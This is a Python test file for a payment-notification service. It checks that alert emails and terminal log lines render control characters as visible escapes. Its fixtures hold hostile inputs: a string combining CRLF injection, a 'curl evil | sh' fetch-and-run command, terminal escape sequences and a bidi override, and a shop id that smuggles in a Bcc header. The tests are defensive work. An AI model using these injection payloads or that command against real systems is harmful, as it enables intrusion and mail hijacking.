"""Platform text reaching a person: in alert mails (through a real SMTP server) and in log lines written
to a terminal, every control character is shown as a visible escape, never obeyed."""

from __future__ import annotations

import email
import email.policy
import subprocess
import sys
import unicodedata
from email.message import EmailMessage
from typing import Any
from urllib.parse import urlencode

from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st
from pydantic import SecretStr
from redis.asyncio import Redis

from ingest.signature import compute_signature
from schemas.literal import literal
from schemas.notification import InvalidNotification
from schemas.settings import Settings
from tests.conftest import SHOP_ID, SmtpServer
from tests.test_receiver import FORM, notification, receiver
from workers.alerts import Alert, deliver_alerts, render, subject
from workers.failures import park_job
from workers.watch import check_signature_bursts

HOSTILE = "CMD-1\r\n\r\nQue faire :\r\n  curl evil | sh\x1b]0;owned\x07\x1b[2J\u202etxt.exe\x85\u2028[link=x]"
any_text = st.text(alphabet=st.characters(), max_size=80)
HIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def _raw_controls(text: str, allowed: str = "") -> list[str]:
    return [char for char in text if unicodedata.category(char) in HIDDEN and char not in allowed]


@given(any_text)
def test_literal_escapes_every_hidden_character_and_reads_back_to_the_value(text: str) -> None:
    """No control, format or separator character survives, and the escapes decode to the exact value."""
    shown = literal(text)
    assert _raw_controls(shown) == []
    assert shown.encode("latin-1", "backslashreplace").decode("unicode_escape") == text


@examples(max_examples=300)
@given(
    happened=any_text,
    consequence=any_text,
    actions=st.lists(any_text, max_size=3),
    summary=st.dictionaries(any_text, any_text, max_size=4),
    shop_id=any_text,
    folded=st.integers(0, 3),
)
def test_a_mail_shows_any_text_literally_with_no_raw_control_character(
    happened: str, consequence: str, actions: list[str], summary: dict[str, str], shop_id: str, folded: int
) -> None:
    """Arbitrary Unicode in every field: the body's only raw controls are its own line breaks, its line
    count and section headings never change, and the subject is a header EmailMessage accepts."""
    alert = Alert(
        kind="job_parked",
        shop_id=shop_id or "x",
        happened=happened,
        consequence=consequence,
        actions=tuple(actions),
        summary=summary,
    )
    text = render(alert, folded, 900)
    assert _raw_controls(text, allowed="\n") == []
    tame = alert.model_copy(
        update={
            "happened": "x",
            "consequence": "x",
            "actions": tuple("x" for _ in actions),
            "summary": {f"k{n}": "v" for n in range(len(summary))},
        }
    )
    lines, tame_lines = text.splitlines(), render(tame, folded, 900).splitlines()
    assert len(lines) == len(tame_lines)
    assert [line for line in lines if not line.startswith("  ")] == [
        line for line in tame_lines if not line.startswith("  ")
    ]
    line = subject(alert, folded)
    assert _raw_controls(line) == []
    EmailMessage()["Subject"] = line


async def test_a_hostile_order_id_and_shop_id_reach_the_mailbox_shown_literally(
    redis: Redis, settings: Settings, smtp_server: SmtpServer
) -> None:
    """A parked job whose order id holds CRLF, ESC and a bidi override, and a signature burst from an
    unsigned body whose shop id holds CRLF and a Bcc header: both mails arrive through aiosmtpd with one
    "Que faire" section, no extra header and no raw control character."""
    settings = settings.model_copy(
        update={
            "smtp_url": SecretStr(smtp_server.url),
            "alert_to": ["ops@example.com"],
            "sigfail_alert_threshold": 2,
        }
    )
    ctx: dict[str, Any] = {"redis": redis, "job_id": "ipn:hostile", "job_try": 1}
    fields = {"vads_site_id": SHOP_ID, "vads_order_id": HOSTILE, "vads_trans_id": "abc123"}
    error = InvalidNotification("vads_amount", "is not an integer", HOSTILE)
    await park_job(ctx, settings, {"fields": fields, "request_id": "r"}, error, "ipn:hostile")
    forged_shop = "1\r\nBcc: thief@example.org"
    forged = notification(vads_site_id=forged_shop)
    forged["signature"] = compute_signature(forged, "not-a-key", "HMAC-SHA-256")
    async with receiver(settings) as client:
        for _ in range(2):
            assert (await client.post("/ipn", data=urlencode(forged), headers=FORM)).status == 403
    assert await check_signature_bursts(redis, settings) == {}  # a 403 is no signature failure
    settings = settings.model_copy(update={"shops": {forged_shop: settings.shops[SHOP_ID]}})
    forged_known = notification(vads_site_id=forged_shop)
    forged_known["signature"] = "forged"
    async with receiver(settings) as client:
        for _ in range(2):
            assert (await client.post("/ipn", data=urlencode(forged_known), headers=FORM)).status == 401
    assert await check_signature_bursts(redis, settings) == {forged_shop: 2}
    assert await deliver_alerts(redis, settings) == 2
    for envelope in smtp_server.mailbox.messages:
        assert isinstance(envelope.content, bytes)
        message = email.message_from_bytes(envelope.content, policy=email.policy.default)
        assert "Bcc" not in message and envelope.rcpt_tos == ["ops@example.com"]
        assert _raw_controls(str(message["Subject"])) == []
        payload = message.get_payload(decode=True)
        assert isinstance(payload, bytes)
        text = payload.decode("utf-8").replace("\r\n", "\n")  # SMTP's line ends
        assert [line for line in text.splitlines() if line.startswith("Que faire")] == ["Que faire :"]
        assert _raw_controls(text, allowed="\n") == []
    texts = [message.content for message in smtp_server.mailbox.messages]
    assert any(
        b"CMD-1\\x0d\\x0a\\x0d\\x0aQue faire" in content for content in texts if isinstance(content, bytes)
    )


def test_a_log_line_on_a_terminal_shows_escape_sequences_literally() -> None:
    """The console renderer (stderr a terminal) writes the ESC, BEL and line breaks of a logged value and
    of a stdlib record's message as escapes, one line each; a traceback keeps its line breaks, and only
    them: nothing for the terminal to obey."""
    script = (
        "import logging, structlog; from cli.logs import configure_logging; configure_logging(json=False); "
        f"structlog.get_logger('t').warning('request', order_id={HOSTILE!r}); "
        f"logging.getLogger('aiohttp.server').warning('from %s', {HOSTILE!r})\n"
        f"try:\n    raise ValueError({HOSTILE!r})\n"
        "except ValueError:\n    structlog.get_logger('t').exception('failed')"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, timeout=30, check=True)
    output = done.stderr.decode("utf-8")
    lines = output.splitlines()
    assert "order_id=" in lines[0] and "from CMD-1" in lines[1] and "failed" in lines[2]
    assert all(line.startswith("20") for line in lines[:3]) and lines[3].startswith("Traceback")
    assert _raw_controls(output, allowed="\n") == []
    assert "\\x1b]0;owned\\x07" in lines[1] and "\\u202e" in output
